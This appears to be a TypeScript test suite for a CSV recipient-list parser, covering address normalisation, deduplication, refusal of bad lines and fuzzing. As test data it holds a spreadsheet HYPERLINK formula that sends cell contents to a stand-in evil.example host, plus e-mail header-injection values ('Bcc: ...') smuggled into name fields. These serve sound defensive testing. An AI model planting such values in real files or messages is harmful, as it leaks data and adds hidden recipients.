import fc from 'fast-check';
import { expect, test } from 'vitest';
import { ReportctlError } from '../../src/core/errors.ts';
import { parseAddress } from '../../src/delivery/address.ts';
import { readAddressList } from '../../src/delivery/address-list.ts';
import { anySign } from '../support/any-sign.ts';

const JANE = { email: 'jane@example.com', name: 'Jane Doe' };

test.each([
  'jane@example.com,Jane Doe',
  'Jane Doe,JANE@Example.com',
  'Jane Doe <jane@example.com>',
  'Email,Name\njane@example.com,Jane Doe',
  'id;Full Name;E-Mail\n7;Jane  Doe;Jane@Example.com',
  'Last Name,First Name,Email Address,Note\nDoe,Jane,jane@example.com,knows joe@example.com',
  'Last Name,First Name,Address\n"Doe","Jane",jane@example.com',
])('reads %j', (csv) => {
  expect(readAddressList(csv)).toEqual({ recipients: [JANE], repeated: 0, refused: [] });
});

test('the same address written in three ways counts once', () => {
  const csv = 'jane@bücher.example,Jane\nJANE@xn--bcher-kva.example\nJane@BÜCHER.example,J.\n';
  expect(readAddressList(csv)).toEqual({
    recipients: [{ email: 'jane@xn--bcher-kva.example', name: 'Jane' }],
    repeated: 2,
    refused: [],
  });
});

test('refused lines are named by number and reason, never by what they hold', () => {
  const csv = 'email,name\njane@example.com,Jane Doe\nnobody,No\n\njoe@,Joe\nann@example.com,"Ann\nBcc: x@y.example"\n';
  const { recipients, refused } = readAddressList(csv);
  expect(recipients).toEqual([JANE]);
  expect(refused.map(({ line }) => line)).toEqual([3, 5, 6]);
  expect(refused[2]?.reason).toMatch(/name holds a control character/);
  expect(JSON.stringify(refused)).not.toMatch(/nobody|joe@|x@y/);
});

test('a list of nothing is empty', () => {
  expect(readAddressList('\n\n')).toEqual({ recipients: [], repeated: 0, refused: [] });
});

test('a formula of a spreadsheet is a name like any other, and is never worked out', () => {
  const name = '=HYPERLINK("https://evil.example?x="&A1)';
  const { recipients } = readAddressList(`email,name\njane@example.com,"${name.replaceAll('"', '""')}"\n`);
  expect(recipients).toEqual([{ email: 'jane@example.com', name }]);
});

test('of any text come addresses that a message may carry, or a refusal that repeats nothing (S1)', () => {
  const pieces = fc.constantFrom(
    ...[
      'email',
      'name',
      ',',
      ';',
      '\t',
      '"',
      '""',
      '\n',
      '\r\n',
      '\r',
      '\0',
      '\u202e',
      'Bcc: e@evil.example',
      '=1+1',
      '@cmd',
    ],
    ...['a@example.com', 'B <b@example.com>', '<', '>', ' ', 'é'],
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(pieces, fc.string({ unit: anySign, maxLength: 5 })), { maxLength: 20 }), (parts) => {
      try {
        const { recipients, refused } = readAddressList(parts.join(''));
        for (const { email, name = '' } of recipients) {
          expect(parseAddress(email).email).toBe(email);
          expect(name).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
        }
        for (const { reason } of refused) expect(reason).toMatch(/^The (e-mail address|name) [a-z ]+/);
      } catch (error) {
        if (!(error instanceof ReportctlError)) throw error;
        expect(error).toMatchObject({ code: 'bad_csv', exitCode: 2 });
      }
    }),
    { numRuns: 200 },
  );
});
